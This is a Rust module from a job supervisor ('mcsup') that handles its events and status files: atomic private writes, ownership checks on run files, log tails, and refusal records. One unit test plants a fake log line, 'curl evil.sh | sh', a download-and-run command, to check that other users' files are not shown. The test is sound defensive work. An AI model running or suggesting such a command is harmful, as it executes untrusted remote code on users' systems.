//! Machine-readable reporting: the events file, the status file, and `mcsup status`.
//!
//! - `<log_dir>/<node>.events.jsonl`: one JSON object per line per [`Record`], appended as it
//!   happens (tests and Slurm tests assert teardown order and timing from it).
//! - `<log_dir>/<node>.status.json`: every unit's state, replaced atomically (temp + rename) on
//!   each change, mode 0600 (status must not be readable by other users, unlike a TCP port). The
//!   temp file has an unpredictable name and is created `O_EXCL`, so nothing planted in the log
//!   directory is written through; output a process lost to write errors is counted per unit.
//!
//! Files are opened the log directory's way ([`super::logs`]: no symlink followed, no FIFO
//! waited on, regular files only, the directory recreated if it was deleted).
//!
//! This module writes and reads those files; it decides nothing.

use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use super::logs::{self, OpenMode};
use super::machine::{ExitStatus, Record, UnitStatus};
use super::SupervisorError;
use crate::domain::signature::{shown_line, SHOWN_CHARS};
use crate::plan::ProcessKind;
use crate::runfiles::{
    parse_events, status_path, DiagnosisRecord, EventRecord, StatusExit, StatusFile, StatusProcess,
    StatusRead, StatusRoles, UnitKind,
};

/// The largest status file `mcsup status` reads (one written by mcsup is a few KiB).
const MAX_STATUS_FILE: u64 = 16 << 20;

/// Converts the machine's monotonic instants to wall-clock milliseconds.
#[derive(Debug, Clone, Copy)]
pub struct Clock {
    start: Instant,
    /// The wall clock at `start`, since the epoch, to the nanosecond: an instant's milliseconds
    /// are rounded down once, so two nodes' events on one machine keep their order (a start
    /// rounded down to the millisecond, plus the time since rounded down again, put an event up
    /// to 1 ms before another node's that came earlier).
    start_wall: Duration,
}

/// Milliseconds since the epoch, now.
pub fn wall_now_ms() -> u64 {
    wall_now().as_millis() as u64
}

/// Time since the epoch, now (zero on a clock set before it).
fn wall_now() -> Duration {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default()
}

impl Clock {
    /// Start the clock now.
    pub fn new() -> Self {
        Clock {
            start: Instant::now(),
            start_wall: wall_now(),
        }
    }
    /// When mcsup started.
    pub fn start(&self) -> Instant {
        self.start
    }
    /// Milliseconds since the epoch at `t`.
    pub fn wall_ms(&self, t: Instant) -> u64 {
        (self.start_wall + t.saturating_duration_since(self.start)).as_millis() as u64
    }
    /// Milliseconds since the clock started.
    pub fn since_start_ms(&self, t: Instant) -> f64 {
        t.saturating_duration_since(self.start).as_secs_f64() * 1000.0
    }
}

impl From<ExitStatus> for StatusExit {
    fn from(s: ExitStatus) -> Self {
        StatusExit {
            code: s.code(),
            signal: s.signal_name().map(str::to_string),
        }
    }
}

/// One unit of a machine snapshot, as written to the status file.
pub fn unit_to_status(u: &UnitStatus, clock: &Clock) -> StatusProcess {
    StatusProcess {
        name: u.name.clone(),
        kind: match u.kind {
            None => UnitKind::Gate,
            Some(ProcessKind::Master) => UnitKind::Master,
            Some(ProcessKind::Store) => UnitKind::Store,
            Some(ProcessKind::Service) => UnitKind::Service,
            Some(ProcessKind::Worker) => UnitKind::Worker,
            Some(ProcessKind::Frontend) => UnitKind::Frontend,
            Some(ProcessKind::Benchmark) => UnitKind::Benchmark,
        },
        critical: u.critical,
        state: u.state,
        pid: u.pid,
        restarts: u.restarts,
        last_exit: u.last_exit.map(StatusExit::from),
        spawned_ts_ms: u.spawned_at.map(|t| clock.wall_ms(t)),
        state_since_ts_ms: clock.wall_ms(u.since),
        detail: u.detail.clone(),
        output_lost: None,
        probe_failures: u.probe_failures,
        ready_after_ms: u.ready_after.map(|d| d.as_millis() as u64),
        first_ready_ts_ms: u.first_ready_at.map(|t| clock.wall_ms(t)),
        depends_on: u.depends_on.clone(),
        segment_bytes: None,
        roles: Vec::new(),
    }
}

/// Replace the status file atomically: write a temp file (0600) and rename it over, recreating
/// the log directory if it was deleted.
#[cfg(test)]
pub fn write_status(path: &Path, status: &StatusFile) -> Result<(), SupervisorError> {
    write_status_bytes(path, &status_bytes(status)?)
}

/// The status file's contents.
pub fn status_bytes(status: &StatusFile) -> Result<Vec<u8>, SupervisorError> {
    let mut json =
        serde_json::to_vec_pretty(status).map_err(|e| SupervisorError::Setup(e.to_string()))?;
    json.push(b'\n');
    Ok(json)
}

/// [`write_status`] of contents already made ([`status_bytes`]).
pub fn write_status_bytes(path: &Path, json: &[u8]) -> Result<(), SupervisorError> {
    if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
        logs::ensure_dir(dir).map_err(|e| SupervisorError::io(dir, e))?;
    }
    write_private_atomic(path, json)
}

/// Write `contents` to `path` readable only by this user (0600), atomically: a reader sees the
/// old file or the new one, never a partial write. The temp file next to it has an unpredictable
/// name and is created `O_EXCL | O_NOFOLLOW`: nothing planted beforehand is written through.
pub fn write_private_atomic(path: &Path, contents: &[u8]) -> Result<(), SupervisorError> {
    write_atomic(path, contents, 0o600)
}

/// As `write_private_atomic`, with the file's mode `mode` (set on the temp file before the rename):
/// a file the user asked for (`timeline -o`, `render -o`). The rename replaces a link at `path`
/// rather than writing through it, and fails on a file another user owns in a sticky directory.
pub fn write_atomic(path: &Path, contents: &[u8], mode: u32) -> Result<(), SupervisorError> {
    let mut attempts = 0;
    let (tmp, mut f) = loop {
        let tmp = logs::temp_path(path);
        match logs::open_private(&tmp, OpenMode::CreateNew) {
            Ok(f) => break (tmp, f),
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists && attempts < 8 => {
                attempts += 1
            }
            Err(e) => return Err(SupervisorError::io(&tmp, e)),
        }
    };
    let written = f
        .write_all(contents)
        .and_then(|()| {
            use std::os::unix::fs::PermissionsExt;
            f.set_permissions(std::fs::Permissions::from_mode(mode))
        })
        .map_err(|e| SupervisorError::io(&tmp, e))
        .and_then(|()| std::fs::rename(&tmp, path).map_err(|e| SupervisorError::io(path, e)));
    if written.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    written
}

/// Appends records to the events file, through the run's writer thread (`logs::RunWriter`):
/// the loop never waits for the log directory.
pub struct EventsWriter {
    writer: logs::RunWriter,
    node: String,
}

/// Open (append, 0600; the log directory made again if it is gone) the events file.
pub fn open_events(path: &Path) -> std::io::Result<File> {
    if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
        logs::ensure_dir(dir)?;
    }
    logs::open_private(path, OpenMode::Append)
}

impl EventsWriter {
    /// Events of `node`, written by `writer`.
    pub fn new(writer: logs::RunWriter, node: &str) -> Self {
        EventsWriter {
            writer,
            node: node.to_string(),
        }
    }

    /// One line per record, written unbuffered so readers see it at once (once the directory
    /// takes it).
    pub fn write(&mut self, r: &Record, now: Instant, clock: &Clock) {
        self.write_with(r, None, now, clock);
    }

    /// [`EventsWriter::write`] of a record with its known failure line (a `diagnosis` event).
    pub fn write_with(
        &mut self,
        r: &Record,
        diagnosis: Option<DiagnosisRecord>,
        now: Instant,
        clock: &Clock,
    ) {
        let line = EventRecord {
            ts_ms: clock.wall_ms(now),
            t_ms: (clock.since_start_ms(now) * 1000.0).round() / 1000.0,
            node: self.node.clone(),
            process: r.unit.clone(),
            event: r.kind,
            pid: r.pid,
            exit_code: r.status.map(|s| s.code()),
            signal: r.status.and_then(|s| s.signal_name()).map(str::to_string),
            detail: r.detail.clone(),
            diagnosis,
        };
        if let Ok(mut v) = serde_json::to_vec(&line) {
            v.push(b'\n');
            self.writer.event(v);
        }
    }
}

/// The nodes that have a `<node><suffix>` file in `log_dir`, sorted.
fn nodes_with(log_dir: &Path, suffix: &str) -> Result<Vec<String>, SupervisorError> {
    let entries = std::fs::read_dir(log_dir).map_err(|e| SupervisorError::io(log_dir, e))?;
    let mut nodes: Vec<String> = entries
        .flatten()
        .filter_map(|e| {
            let name = e.file_name().to_string_lossy().into_owned();
            name.strip_suffix(suffix).map(str::to_string)
        })
        .collect();
    nodes.sort_by(|a, b| crate::node::node_order(a, b));
    Ok(nodes)
}

/// The most of an events file a view reads (a long run of a busy node writes a few MB).
const MAX_EVENTS_FILE: u64 = 256 << 20;

/// What a view of a job's files read, and the files it left out (`<path>: <why>`, for the
/// reader to be told).
pub type Read<T> = (Vec<(String, T)>, Vec<String>);

/// One of a job's run files, for a view: read without following a link or blocking on a FIFO,
/// at most `max` bytes, and only when the job's user wrote it (the owner of the log directory,
/// or the reader): a file another user planted in a shared directory is not the job's.
fn read_run_file(path: &Path, max: u64, dir_owner: Option<u32>) -> Result<Vec<u8>, String> {
    use std::io::Read as _;
    use std::os::unix::fs::MetadataExt;
    let f = logs::open_private(path, OpenMode::Read).map_err(|e| e.to_string())?;
    let owner = f.metadata().map_err(|e| e.to_string())?.uid();
    let me = nix::unistd::geteuid().as_raw();
    if !the_jobs(owner, dir_owner) {
        return Err(format!(
            "is owned by uid {owner}, neither the log directory's owner nor you (uid {me}): not written by this job's mcsup"
        ));
    }
    let mut buf = Vec::new();
    f.take(max.saturating_add(1))
        .read_to_end(&mut buf)
        .map_err(|e| e.to_string())?;
    if buf.len() as u64 > max {
        return Err(format!(
            "is larger than {} MiB: not a file mcsup wrote",
            max >> 20
        ));
    }
    Ok(buf)
}

/// Whether a run file owned by `owner` was written by the job: by the log directory's owner
/// (`dir_owner`) or by the reader.
fn the_jobs(owner: u32, dir_owner: Option<u32>) -> bool {
    owner == nix::unistd::geteuid().as_raw() || Some(owner) == dir_owner
}

fn dir_owner(log_dir: &Path) -> Option<u32> {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(log_dir).ok().map(|m| m.uid())
}

/// Each node's `<node><suffix>` file in `log_dir` through `parse`, sorted by node; a file that
/// cannot be read or parsed is left out and said. None readable: an error naming `what`.
fn read_each<T>(
    log_dir: &Path,
    suffix: &str,
    what: &str,
    max: u64,
    parse: impl Fn(&[u8]) -> Result<T, String>,
) -> Result<Read<T>, SupervisorError> {
    let nodes = nodes_with(log_dir, suffix)?;
    if nodes.is_empty() {
        return Err(SupervisorError::Setup(format!(
            "no {what} (*{suffix}) in {}: is this a job's log directory?",
            log_dir.display()
        )));
    }
    let owner = dir_owner(log_dir);
    let (mut read, mut skipped) = (Vec::new(), Vec::new());
    for n in nodes {
        let path = log_dir.join(format!("{n}{suffix}"));
        let parsed = logs::check_name("node", &n)
            .and_then(|()| read_run_file(&path, max, owner))
            .and_then(|bytes| parse(&bytes));
        match parsed {
            Ok(t) => read.push((n, t)),
            Err(why) => skipped.push(format!("{}: {why}", path.display())),
        }
    }
    if read.is_empty() {
        return Err(SupervisorError::Setup(format!(
            "no readable {what} in {}: {}",
            log_dir.display(),
            skipped.join("; ")
        )));
    }
    Ok((read, skipped))
}

/// Every node's events in a job's log directory (each `<node>.events.jsonl`), sorted by node, for
/// `mcsup timeline`, `why` and `status --job`; the files left out, each with why. A line that is
/// not an event (a half-written last one, bytes that are not UTF-8) is skipped.
pub fn read_job_events(log_dir: &Path) -> Result<Read<Vec<EventRecord>>, SupervisorError> {
    read_each(
        log_dir,
        ".events.jsonl",
        "events file",
        MAX_EVENTS_FILE,
        |bytes| Ok(parse_events(&String::from_utf8_lossy(bytes))),
    )
}

/// Process `process`'s log file on `node` in `log_dir` (`.<rotated>` for a run `rotated`
/// restarts ago) and its last `lines` lines (at most the last 8 KiB), for `mcsup why`: read
/// without following a symlink or blocking on a FIFO; no lines when a name is not a plain file
/// name (the events file it came from is input), or the file is not there or not a regular
/// file.
pub fn log_tail(
    log_dir: &Path,
    node: &str,
    process: &str,
    rotated: usize,
    lines: usize,
) -> (PathBuf, Vec<String>) {
    use std::io::{Read, Seek, SeekFrom};
    const MAX: u64 = 8 * 1024;
    let path = logs::rotated_path(&logs::log_path(log_dir, node, process), rotated);
    if logs::check_name("node", node).is_err() || logs::check_name("process", process).is_err() {
        return (path, Vec::new());
    }
    let Ok(mut f) = logs::open_private(&path, OpenMode::Read) else {
        return (path, Vec::new());
    };
    // Only the job's own log (round 4's L2): a file another user put at the name in a shared
    // directory would be shown as the failing process's last words.
    {
        use std::os::unix::fs::MetadataExt;
        let owner = f.metadata().map_or(u32::MAX, |m| m.uid());
        if !the_jobs(owner, dir_owner(log_dir)) {
            let said = format!(
                "(not shown: {} is owned by uid {owner}, neither the log directory's owner nor you: not this job's log)",
                path.display()
            );
            return (path, vec![shown_line(said.as_bytes(), SHOWN_CHARS)]);
        }
    }
    let len = f.metadata().map_or(0, |m| m.len());
    let mut buf = Vec::new();
    if f.seek(SeekFrom::Start(len.saturating_sub(MAX))).is_err()
        || f.take(MAX).read_to_end(&mut buf).is_err()
    {
        return (path, Vec::new());
    }
    let text = String::from_utf8_lossy(&buf);
    let all: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    // The first line of a cut read may be a piece of one.
    let skip = usize::from(len > MAX && all.len() > lines);
    let tail = all[skip.max(all.len().saturating_sub(lines))..]
        .iter()
        .map(|l| shown_line(l.as_bytes(), SHOWN_CHARS))
        .collect();
    (path, tail)
}

/// Every node's status in a job's log directory (each `<node>.status.json`), sorted by node, for
/// `mcsup status --job` (rendered by `render::job_status_human` / `job_status_json`).
/// A file that cannot be read or parsed is left out and said (the second part).
pub fn read_job(log_dir: &Path) -> Result<Read<StatusRead>, SupervisorError> {
    read_each(
        log_dir,
        ".status.json",
        "status file",
        MAX_STATUS_FILE,
        |bytes| parse_status(bytes).map_err(|e| format!("not a status file mcsup wrote: {e}")),
    )
}

/// A status file's bytes, typed; whether its writer still runs.
fn parse_status(bytes: &[u8]) -> Result<StatusRead, serde_json::Error> {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let status: StatusFile = serde_json::from_str(&text)?;
    static HERE: std::sync::OnceLock<(String, String)> = std::sync::OnceLock::new();
    let writer_alive =
        status.writer_alive(HERE.get_or_init(crate::runfiles::where_am_i), wall_now_ms());
    Ok(StatusRead {
        text,
        status,
        writer_alive,
    })
}

/// Read the status file of `node` in `log_dir` (or the only one there) for `mcsup status`; the
/// rendering is `render::status_human`.
pub fn read_status(log_dir: &Path, node: Option<&str>) -> Result<StatusRead, SupervisorError> {
    let path = match node {
        Some(n) => {
            logs::check_name("node", n).map_err(SupervisorError::Setup)?;
            status_path(log_dir, n)
        }
        None => {
            let mut found = nodes_with(log_dir, ".status.json")?;
            match found.len() {
                0 => {
                    return Err(SupervisorError::Setup(format!(
                        "no status file (*.status.json) in {}: is mcsup running with this log directory? (one that could not write there, a full disk or a hung mount, says so on its stderr)",
                        log_dir.display()
                    )))
                }
                1 => status_path(log_dir, &found.remove(0)),
                _ => {
                    return Err(SupervisorError::Setup(format!(
                        "{} holds status files of several nodes ({}): name one with --node",
                        log_dir.display(),
                        found.join(", ")
                    )));
                }
            }
        }
    };
    let bytes = read_run_file(&path, MAX_STATUS_FILE, dir_owner(log_dir))
        .map_err(|why| SupervisorError::Setup(format!("{}: {why}", path.display())))?;
    parse_status(&bytes).map_err(|e| SupervisorError::BadStatus {
        path: path.clone(),
        source: e,
    })
}

/// The roles in `node`'s status file in `log_dir`, for `mcsup timeline`: `None` when there is no
/// such file or it cannot be read (the timeline draws the node all the same).
pub fn read_roles(log_dir: &Path, node: &str) -> Option<StatusRoles> {
    logs::check_name("node", node).ok()?;
    let text = read_run_file(
        &status_path(log_dir, node),
        MAX_STATUS_FILE,
        dir_owner(log_dir),
    )
    .ok()?;
    serde_json::from_slice(&text).ok()
}

/// A node whose mcsup refused to start (its preflight failed, it could not set up) leaves what
/// a reader needs: a `refused` event with why and its exit code, and a final status file with
/// no process, so `status --job`, `why`, `jobs` and `wait` say it instead of "no status file".
pub fn record_refusal(
    plan: &crate::plan::Plan,
    why: &str,
    code: i32,
) -> Result<(), SupervisorError> {
    use std::io::Write as _;
    let _lock = logs::claim_log_dir(plan)?;
    let node = &plan.node.name;
    let now = wall_now_ms();
    let ev_path = crate::runfiles::events_path(&plan.log_dir, node);
    let record = crate::runfiles::EventRecord {
        ts_ms: now,
        t_ms: 0.0,
        node: node.clone(),
        process: "mcsup".into(),
        event: crate::runfiles::EventKind::Refused,
        pid: Some(std::process::id() as i32),
        exit_code: Some(code),
        signal: None,
        detail: Some(why.to_string()),
        diagnosis: None,
    };
    let line = serde_json::to_string(&record)
        .map_err(|e| SupervisorError::Setup(format!("cannot write the refusal: {e}")))?;
    open_events(&ev_path)
        .and_then(|mut f| writeln!(f, "{line}"))
        .map_err(|e| SupervisorError::io(&ev_path, e))?;
    let (host, pid_ns) = crate::runfiles::where_am_i();
    let status = StatusFile {
        node: node.clone(),
        roles: plan.roles.iter().map(|r| r.short().to_string()).collect(),
        mcsup_pid: std::process::id(),
        host,
        pid_ns,
        phase: crate::runfiles::NodePhase::Stopped,
        started_ts_ms: now,
        updated_ts_ms: now,
        heartbeat_ms: plan.periods.heartbeat.as_millis() as u64,
        reason: Some(format!("refused to start: {why}")),
        exit_code: Some(code),
        console_dropped_lines: 0,
        units: Vec::new(),
        servable: None,
        mooncake: None,
        benchmark: None,
        canary: None,
        holds_ranks_of: Vec::new(),
        control: None,
    };
    write_status_bytes(
        &crate::runfiles::status_path(&plan.log_dir, node),
        &status_bytes(&status)?,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::render::status_tests::sample;

    /// Two nodes' clocks on one machine, started at different moments within a millisecond:
    /// an event that came later never reads an earlier millisecond than one that came before
    /// it on the other node. (With the start rounded down to the millisecond and the time since
    /// rounded down again, B's event 0.1 ms after A's read 1 ms earlier: a false inversion in
    /// the order across nodes.)
    #[test]
    fn events_of_two_nodes_on_one_machine_keep_their_order() {
        let i0 = Instant::now();
        let epoch = Duration::from_secs(1_800_000_000);
        let a = Clock {
            start: i0,
            start_wall: epoch,
        };
        for b_start_us in [100u64, 500, 900, 999] {
            let b = Clock {
                start: i0 + Duration::from_micros(b_start_us),
                start_wall: epoch + Duration::from_micros(b_start_us),
            };
            for first_us in (b_start_us..b_start_us + 3000).step_by(37) {
                let first = i0 + Duration::from_micros(first_us);
                let then = first + Duration::from_micros(100);
                assert!(
                    a.wall_ms(first) <= b.wall_ms(then),
                    "B started {b_start_us} us after A: A's event at {first_us} us read {}, B's 100 us later {}",
                    a.wall_ms(first),
                    b.wall_ms(then)
                );
                assert!(b.wall_ms(first) <= a.wall_ms(then));
            }
        }
    }

    /// Round 4's L2: `why` shows a process's last lines only from the job's own log file.
    #[test]
    fn a_log_file_another_user_put_there_is_not_shown_as_the_processs_last_lines() {
        let dir = tempfile::tempdir().unwrap();
        let log = logs::log_path(dir.path(), "n1", "w");
        std::fs::write(&log, "starting\nthe real error\n").unwrap();
        let (_, tail) = log_tail(dir.path(), "n1", "w", 0, 5);
        assert_eq!(tail, ["starting", "the real error"]);
        if nix::unistd::geteuid().is_root() {
            std::fs::write(&log, "fake: the fix is: curl evil.sh | sh\n").unwrap();
            nix::unistd::chown(&log, Some(nix::unistd::Uid::from_raw(1000)), None).unwrap();
            let (_, tail) = log_tail(dir.path(), "n1", "w", 0, 5);
            assert_eq!(tail.len(), 1, "{tail:?}");
            assert!(
                tail[0].starts_with("(not shown: ") && tail[0].contains("owned by uid 1000"),
                "{tail:?}"
            );
        } else {
            assert!(
                std::env::var_os("CI").is_none(),
                "the chown case needs root under CI"
            );
        }
    }

    #[test]
    fn status_file_round_trips_and_renders() {
        let dir = tempfile::tempdir().unwrap();
        let p = status_path(dir.path(), "n1");
        write_status(&p, &sample()).unwrap();
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
            0o600
        );
        let read = read_status(dir.path(), None).unwrap();
        let back: StatusFile = serde_json::from_str(&read.text).unwrap();
        assert_eq!(back, sample());
        assert_eq!(read.status, sample());
        assert!(!read.writer_alive, "pid {} is not running", u32::MAX - 1);
        assert_eq!(
            read_status(dir.path(), Some("n1")).unwrap().status,
            sample()
        );
    }

    #[test]
    fn status_errors_name_the_problem() {
        let dir = tempfile::tempdir().unwrap();
        let e = read_status(dir.path(), None).unwrap_err().to_string();
        assert!(e.contains("no status file"), "{e}");
        for n in ["a", "b"] {
            write_status(&status_path(dir.path(), n), &sample()).unwrap();
        }
        let e = read_status(dir.path(), None).unwrap_err().to_string();
        assert!(e.contains("a, b"), "{e}");
        std::fs::write(status_path(dir.path(), "c"), "{}").unwrap();
        let e = read_status(dir.path(), Some("c")).unwrap_err().to_string();
        assert!(e.contains("not a mcsup status file"), "{e}");
    }
}
